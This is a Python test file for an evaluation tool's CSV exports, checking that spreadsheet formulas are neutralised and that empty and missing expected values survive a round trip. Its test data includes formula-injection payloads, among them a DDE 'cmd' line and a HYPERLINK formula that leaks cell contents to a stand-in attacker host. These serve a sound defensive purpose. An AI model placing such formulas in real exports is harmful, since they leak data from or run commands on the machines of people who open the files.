"""CSV exports as users open them: no cell a spreadsheet would run as a formula (bh-39), an empty
expected text kept apart from no expected value (bh-47), and the round trip still exact, from the
CLI (run, set, comparison) and the API (issue 23)."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from pathlib import Path

import pytest

from evalcore.loaders import load_cases
from tests.apps.evals.test_export_cli import run_cli
from tests.apps.factories import make_eval_run, make_eval_set

REPROS = Path(__file__).resolve().parents[2] / "fixtures" / "repros"

TARGETS = """
from evalcore.discovery import TargetSpec

def echo(text):
    return text

def minus(text):
    return "-" + str(text) + "+1"

echo_target = TargetSpec(id="echo", target=echo, scorers=["exact_match"])
minus_target = TargetSpec(id="minus", target=minus, scorers=["exact_match"])
"""


def formula_cells(path: Path) -> list[tuple[str, str]]:
    """(column, cell) of every cell starting with = + - @ TAB CR that is not a plain number
    (the repro's bh-39-check.py, which a spreadsheet agrees with on numbers)."""
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
    found = []
    for row in rows[1:]:
        for column, cell in zip(rows[0], row, strict=True):
            if cell and cell[0] in "=+-@\t\r" and not re.fullmatch(r"-?\d+(\.\d+)?([eE][+-]?\d+)?", cell):
                found.append((column, cell))
    return found


def cases_of(path: Path) -> list[tuple]:
    return [(c.id, c.input, c.expected, c.tags, c.split, c.metadata) for c in load_cases(path).cases]


def test_the_clis_csv_exports_hold_no_formula_and_read_back_as_the_cases(tmp_path):
    db = tmp_path / "t39.sqlite3"
    agents = tmp_path / "agents"
    agents.mkdir()
    (agents / "targets.py").write_text(TARGETS)
    bank = tmp_path / "bh-39-csv-formula.jsonl"
    shutil.copy(REPROS / bank.name, bank)
    runs = []
    for target in ("echo", "minus"):
        ran = run_cli("eval", str(agents), "--set", str(bank), "--target", target, "--quiet", db=db)
        assert ran.returncode in (0, 1), ran.stdout + ran.stderr
        runs.append(re.search(r"eval run ([0-9a-f]{16})", ran.stdout).group(1))
    files = {name: tmp_path / f"{name}.csv" for name in ("run", "set", "ab")}
    for name, args in (
        ("run", [runs[0], "--format", "csv"]),
        ("set", ["--set", "bh-39-csv-formula", "--format", "csv"]),
        ("ab", [runs[0], "--compare", runs[1]]),
    ):
        exported = run_cli("export", *args, "-o", str(files[name]), db=db)
        assert exported.returncode == 0, exported.stderr
        assert formula_cells(files[name]) == [], name
    text = files["run"].read_text()
    assert "'=HYPERLINK(" in text and "'=cmd|' /C calc'!A0" in text and "'-2+3" in text  # shown, not run
    assert cases_of(files["set"]) == cases_of(bank) == cases_of(files["run"]) == cases_of(files["ab"])

    # the outputs round-trip too: the CSV reader takes off what the writer put on
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(files["ab"].read_text(), newline=""))}
    assert rows["f5"]["evalsite.b.output"] == "'-\t=1+1+1"  # minus("\t=1+1")
    assert rows["f5"]["evalsite.a.output"] == "'\t=1+1"
    imported = run_cli("import", str(files["set"]), "--name", "again", db=db)
    assert imported.returncode == 0 and "6 new" in imported.stdout, imported.stdout + imported.stderr


def test_an_empty_expected_text_survives_a_csv_round_trip_through_the_cli(tmp_path):
    """bh-47: ``""`` and no expected value were one empty cell; now ``""`` is written ``\"\"``."""
    db = tmp_path / "t47.sqlite3"
    bank = tmp_path / "bh-47-null-expected.jsonl"
    shutil.copy(REPROS / bank.name, bank)
    assert run_cli("import", str(bank), "--name", "orig", db=db).returncode == 0
    out = tmp_path / "orig.csv"
    assert run_cli("export", "--set", "orig", "--format", "csv", "-o", str(out), db=db).returncode == 0
    cells = {row["id"]: row["expected"] for row in csv.DictReader(io.StringIO(out.read_text(), newline=""))}
    assert cells == {"given": "a", "null": "null", "absent": "", "empty": '""', "empty-ok": '""'}
    assert run_cli("import", str(out), "--name", "roundtrip", db=db).returncode == 0
    again = tmp_path / "roundtrip.jsonl"
    assert run_cli("export", "--set", "roundtrip", "-o", str(again), db=db).returncode == 0
    expected = {row["id"]: row.get("expected", "<none>") for row in map(json.loads, again.read_text().splitlines())}
    assert expected == {"given": "a", "null": None, "absent": "<none>", "empty": "", "empty-ok": ""}


@pytest.mark.django_db
@pytest.mark.parametrize("what", ["run", "compare", "review-queue", "set"])
def test_the_apis_csv_exports_neutralise_formulas(client, viewer, tmp_path, what):
    eval_set = make_eval_set(n_cases=3)
    eval_set.cases.filter(case_id="c0").update(input="@SUM(1,1)", expected="=1+1")
    eval_set.cases.filter(case_id="c1").update(input="-2", expected="")
    outputs = ['=HYPERLINK("http://attacker.invalid/?leak="&A1,"x")', "+1+1", "\r=1"]
    run = make_eval_run(eval_set, [True, False, True], outputs=outputs)
    other = make_eval_run(eval_set, [False, True, True], outputs=list(reversed(outputs)))
    url = {
        "run": f"/api/eval/runs/{run.pk}/export?format=csv",
        "compare": f"/api/eval/compare/export?a={run.pk}&b={other.pk}&format=csv",
        "review-queue": f"/api/eval/runs/{run.pk}/review-queue/export?format=csv",
        "set": f"/api/eval/sets/{eval_set.pk}/export?format=csv",
    }[what]
    client.force_login(viewer)
    response = client.get(url)
    assert response.status_code == 200
    path = tmp_path / "export.csv"
    path.write_bytes(b"".join(response.streaming_content))
    assert formula_cells(path) == []
    loaded = {c.id: (c.input, c.expected) for c in load_cases(path).cases}
    assert loaded["c0"] == ("@SUM(1,1)", "=1+1") and loaded["c1"] == ("-2", "")
